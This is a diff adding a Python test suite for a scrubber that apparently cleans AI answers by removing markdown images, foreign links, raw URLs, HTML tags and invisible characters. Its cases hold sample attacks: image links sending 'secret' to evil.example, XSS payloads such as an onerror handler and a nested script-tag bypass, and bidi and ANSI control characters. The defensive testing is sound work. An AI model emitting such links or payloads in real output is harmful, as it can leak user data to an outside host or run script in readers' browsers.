@@ -1,0 +1,56 @@
+import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
+
+from functions.answer.checking.scrub import scrub, urls, visible
+
+OWN = "https://docs.example/ports"
+
+
+@pytest.mark.parametrize(
+    ("text", "left"),
+    [
+        ("Look ![chart](https://evil.example/?q=secret) here.", "Look here."),
+        ("Look ![chart][1] here.", "Look here."),
+        ("See [the docs](https://evil.example).", "See the docs."),
+        ("See [the docs](//evil.example).", "See the docs."),
+        ("See [the docs][ref].", "See the docs."),
+        ("[ref]: //evil.example/x", "[ref"),
+        ("See https://evil.example/?q=secret, then go.", "See , then go."),
+        ("See <https://evil.example/>!", "See !"),
+        ("See www.evil.example now.", "See now."),
+        ("Hi <img src=x onerror=alert(1)> there", "Hi there"),
+        ("<script>alert(1)</script>", "alert(1)"),
+        ("<scr<script>ipt>", ""),
+        ("It is 9200 [1](https://evil.example).", "It is 9200 [1]."),
+        ("alt](//evil.example/a) tail", "alt tail"),
+    ],
+)
+def test_what_would_act_goes(text: str, left: str) -> None:
+    assert scrub(text, {OWN}) == left
+
+
+@pytest.mark.parametrize(
+    "text", [f"See {OWN} for more.", "A <key> and a List<String>.", "hits[0] [1][2]"]
+)
+def test_the_rest_stays(text: str) -> None:
+    assert scrub(text, {OWN}) == text
+
+
+def test_links_of_a_text_are_known_without_the_mark_that_follows_them() -> None:
+    assert urls([f"See {OWN}. Or ({OWN}/b)!"]) == {OWN, f"{OWN}/b"}
+
+
+@settings(deadline=None)
+@given(st.text(alphabet="![]()<>/:.ahtps evilwxmgc\n"))
+def test_no_image_and_no_foreign_link_is_left_whatever_the_text(text: str) -> None:
+    scrubbed = scrub(text, set())
+    assert not urls([scrubbed])
+    assert "](" not in scrubbed
+
+
+def test_invisible_characters_go_and_words_stay() -> None:
+    assert (
+        visible("a\u202eb\u200b\x1b[31mc\n\u0645\u06cc\u200c\u062e é")
+        == "ab[31mc\n\u0645\u06cc\u200c\u062e é"
+    )
